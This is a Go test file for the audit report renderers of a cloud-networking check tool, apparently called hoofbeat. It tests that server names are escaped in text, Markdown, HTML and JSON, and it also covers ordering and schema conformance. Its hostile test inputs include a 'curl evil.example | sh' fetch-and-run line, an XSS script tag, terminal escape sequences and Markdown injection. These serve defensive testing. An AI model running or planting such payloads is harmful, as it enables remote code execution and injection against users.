package report

import (
	"bytes"
	"encoding/json"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/hoofbeat/hoofbeat/internal/rule"
	"github.com/hoofbeat/hoofbeat/internal/snapshot"
	"github.com/santhosh-tekuri/jsonschema/v6"
)

// auditOf is an audit of the recorded examples, each a server, poisoned.
func auditOf(t *testing.T, evil string, all bool) *AuditReport {
	r := &AuditReport{Tool: "hoofbeat test", CheckedAt: time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC), Scope: "project " + evil,
		Gaps: []snapshot.Gap{{Source: "agents", Kind: snapshot.GapError, Reason: evil}}}
	for _, ex := range hostileExamples {
		var s snapshot.Snapshot
		if err := json.Unmarshal(readExample(t, ex), &s); err != nil {
			t.Fatal(err)
		}
		poison(reflect.ValueOf(&s), "", evil, all)
		r.Cloud = s.Cloud
		r.Servers = append(r.Servers, AuditServer{Snapshot: &s, Result: rule.Evaluate(&rule.Input{Snapshot: &s}, rule.Options{})})
	}
	return r
}

// TestAuditHostileNames: the audit's renderers keep hostile names data:
// no control character in text and Markdown, no table row or heading a
// name wrote, no tag in HTML, the same strings in JSON.
func TestAuditHostileNames(t *testing.T) {
	for _, evil := range []string{
		"lab-sg\ncurl evil.example | sh",
		"x\x1b]0;pwned\x07\x1b[2J",
		"\n\n## ALL CLEAR\n| a | b | c |\n",
		"<img src=x onerror=alert(1)><script>alert(1)</script>",
		"\u202erlo\u2028x\x00y\xff",
	} {
		for _, all := range []bool{false, true} {
			r := auditOf(t, evil, all)
			var text, md, html, js bytes.Buffer
			if err := AuditText(&text, r, TextOptions{Width: 100}); err != nil {
				t.Fatal(err)
			}
			if err := AuditMarkdown(&md, r); err != nil {
				t.Fatal(err)
			}
			if err := AuditHTML(&html, r); err != nil {
				t.Fatal(err)
			}
			if err := AuditJSON(&js, r); err != nil {
				t.Fatal(err)
			}
			for name, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
				if l, ok := foreignControl(out); ok {
					t.Fatalf("%q: %s: control character in line %q", evil, name, l)
				}
			}
			checkAuditMarkdown(t, evil, md.String())
			if h := html.String(); strings.Contains(h, "<img") || strings.Contains(h, "<script") || strings.Contains(h, "\x1b") {
				t.Fatalf("%q: HTML holds the raw name", evil)
			}
			var d struct {
				Scope   string `json:"scope"`
				Servers []struct {
					Name string `json:"name"`
				} `json:"servers"`
			}
			if err := json.Unmarshal(js.Bytes(), &d); err != nil {
				t.Fatalf("%q: JSON: %v", evil, err)
			}
			if len(d.Servers) != len(hostileExamples) || !strings.HasSuffix(d.Scope, strings.ToValidUTF8(evil, "\uFFFD")) {
				t.Fatalf("%q: JSON scope %q, %d servers", evil, d.Scope, len(d.Servers))
			}
		}
	}
}

// checkAuditMarkdown: the headings are the report's, and every table row
// has its table's columns.
func checkAuditMarkdown(t *testing.T, evil, md string) {
	t.Helper()
	cols := 0
	for i, l := range strings.Split(md, "\n") {
		switch {
		case i == 0 && strings.HasPrefix(l, "# Audit of "):
		case strings.HasPrefix(strings.TrimLeft(l, " "), "#"):
			if !strings.HasPrefix(l, "## Findings by rule") && !strings.HasPrefix(l, "## Servers with a warning or an error") && !strings.HasPrefix(l, "## Skipped checks") {
				t.Fatalf("%q: markdown line %d is a heading the report did not write: %q", evil, i+1, l)
			}
		case strings.HasPrefix(l, "|"):
			n := strings.Count(strings.ReplaceAll(l, `\|`, ""), "|")
			if cols == 0 {
				cols = n
			}
			if n != cols {
				t.Fatalf("%q: markdown row %d has %d separators, its table %d: %q", evil, i+1, n, cols, l)
			}
		default:
			cols = 0
		}
	}
}

// TestAuditOrder: servers and rules most severe first; the grid's cells
// take the worst of the server's ports.
func TestAuditOrder(t *testing.T) {
	r := auditOf(t, "x", false)
	v := buildAudit(r)
	for i := 1; i < len(v.Servers); i++ {
		if v.Servers[i].Worst > v.Servers[i-1].Worst {
			t.Errorf("server %d (%v) after a less severe one (%v)", i, v.Servers[i].Worst, v.Servers[i-1].Worst)
		}
	}
	for i := 1; i < len(v.Rules); i++ {
		if v.Rules[i].Worst > v.Rules[i-1].Worst {
			t.Errorf("rule %s before a more severe one", v.Rules[i-1].Rule)
		}
	}
	for _, s := range v.Servers {
		if len(s.Cells) != len(auditHops) {
			t.Fatalf("%d cells", len(s.Cells))
		}
		if s.Worst >= rule.Error {
			problem := false
			for _, c := range s.Cells {
				problem = problem || c.Status == statusProblem
			}
			if !problem {
				t.Errorf("%s has an error and no hop in problem", s.Name)
			}
		}
	}
}

// TestAuditTextNamesTwentyServersARule: a rule found on every server of a
// large cloud names the first twenty, and counts the rest.
func TestAuditTextNamesTwentyServersARule(t *testing.T) {
	var s snapshot.Snapshot
	if err := json.Unmarshal(readExample(t, "icmp-ingress"), &s); err != nil {
		t.Fatal(err)
	}
	res := rule.Evaluate(&rule.Input{Snapshot: &s}, rule.Options{})
	r := &AuditReport{Tool: "hoofbeat test", Scope: "all projects"}
	for range 25 {
		r.Servers = append(r.Servers, AuditServer{Snapshot: &s, Result: res})
	}
	var text, md bytes.Buffer
	if err := AuditText(&text, r, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := AuditMarkdown(&md, r); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		if !strings.Contains(out, "and 5 servers more") {
			t.Errorf("%s does not count the servers past twenty:\n%s", name, out)
		}
	}
	if n := strings.Count(text.String(), "security-group/icmp-ingress-missing: "); n != 25 {
		t.Errorf("BY SERVER lists %d servers in error, want 25", n)
	}
}

// TestAuditJSONMatchesSchema: the audit document conforms to
// docs/audit.schema.json, which shares output.schema.json's definitions.
func TestAuditJSONMatchesSchema(t *testing.T) {
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	for _, name := range []string{"output.schema.json", "audit.schema.json"} {
		f, err := os.Open("../../docs/" + name)
		if err != nil {
			t.Fatal(err)
		}
		doc, err := jsonschema.UnmarshalJSON(f)
		f.Close()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if err := c.AddResource("https://github.com/hoofbeat/hoofbeat/docs/"+name, doc); err != nil {
			t.Fatal(err)
		}
	}
	sch, err := c.Compile("https://github.com/hoofbeat/hoofbeat/docs/audit.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []*AuditReport{auditOf(t, "x", false), {Tool: "hoofbeat test", Scope: "project demo"}} {
		var b bytes.Buffer
		if err := AuditJSON(&b, r); err != nil {
			t.Fatal(err)
		}
		v, err := jsonschema.UnmarshalJSON(&b)
		if err != nil {
			t.Fatal(err)
		}
		if err := sch.Validate(v); err != nil {
			t.Errorf("the audit document does not match its schema: %v", err)
		}
	}
}
